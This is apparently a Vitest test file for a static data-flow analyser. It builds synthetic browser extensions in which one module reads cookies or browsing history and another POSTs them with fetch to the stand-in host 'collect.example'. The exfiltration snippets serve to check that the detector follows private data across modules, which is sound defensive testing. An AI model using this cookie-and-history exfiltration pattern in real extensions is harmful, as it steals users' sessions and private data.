import { expect, test } from 'vitest';
import { factsOf } from '../testing/examples.ts';
import { flowsOf } from './flowsOf.ts';

const OTHERS = 45;
const SEND = "fetch('https://collect.example/', { method: 'POST', body: JSON.stringify(all) });";

/** Whether cookies are sent by an extension of so many modules: what one makes, another asks. */
async function isSent(made: string, asked: string, start: string): Promise<boolean> {
  const files: Record<string, string> = {
    'manifest.json': JSON.stringify({
      manifest_version: 3,
      name: 'Example',
      version: '1',
      permissions: ['cookies', 'history'],
      host_permissions: ['<all_urls>'],
      background: { service_worker: 'background.js', type: 'module' },
    }),
    'made.js': made,
    'asked.js': asked,
  };
  let imports = start;
  for (let at = 0; at < OTHERS; at++) {
    files[`other${at}.js`] =
      `class Other { load() { return ${at}; } get(key) { return key + 1; } } export const other = new Other().load();`;
    imports += `\nimport { other as other${at} } from './other${at}.js'; console.log(other${at});`;
  }
  files['background.js'] = imports;
  const { flows } = (await factsOf({ kind: 'extension', files })).whole(flowsOf);
  return flows.some(({ sink, source }) => sink.kind === 'network' && /^(?:cookies|history)$/.test(source.kind));
}

const ask = (value: string): string =>
  `import { Jar, jar } from './made.js'; export async function run() { const all = await ${value}; ${SEND} }`;
const RUN = "import { run } from './asked.js'; run();";

test.each<[string, string, string, string]>([
  [
    'a method of an object',
    'export const jar = { load() { return chrome.cookies.getAll({}); } }; export class Jar {}',
    ask('jar.load()'),
    RUN,
  ],
  [
    'a method that is read first',
    'export const jar = { load() { return chrome.history.search({ text: "" }); } }; export class Jar {}',
    ask('load()').replace('run() {', 'run() { const { load } = jar;'),
    RUN,
  ],
  [
    'a method of a class',
    'export const jar = 0; export class Jar { load() { return chrome.cookies.getAll({}); } }',
    ask('new Jar().load()'),
    RUN,
  ],
  [
    'what a class keeps',
    'export class Jar { async load() { this.all = await chrome.cookies.getAll({}); } get() { return this.all; } } export const jar = new Jar(); jar.load();',
    ask('jar.get()'),
    RUN,
  ],
  [
    'what is thrown',
    'export const jar = { async load() { throw await chrome.cookies.getAll({}); } };',
    `import { jar } from './made.js'; export async function run() { try { await jar.load(); } catch (all) { ${SEND} } }`,
    RUN,
  ],
  [
    'an object that is handed over',
    'export class Jar { load() { return chrome.cookies.getAll({}); } }',
    `export class Sender { constructor(jar) { this.jar = jar; } async run() { const all = await this.jar.load(); ${SEND} } }`,
    "import { Jar } from './made.js'; import { Sender } from './asked.js'; new Sender(new Jar()).run();",
  ],
  [
    'the class that one extends',
    'export class Jar { load() { return chrome.cookies.getAll({}); } }',
    `import { Jar } from './made.js'; export class Sender extends Jar { async run() { const all = await this.load(); ${SEND} } }`,
    "import { Sender } from './asked.js'; new Sender().run();",
  ],
])(
  'private data that %s gives is followed into other scripts, however many there are',
  async (_, made, asked, start) => {
    await expect(isSent(made, asked, start)).resolves.toBe(true);
  },
);
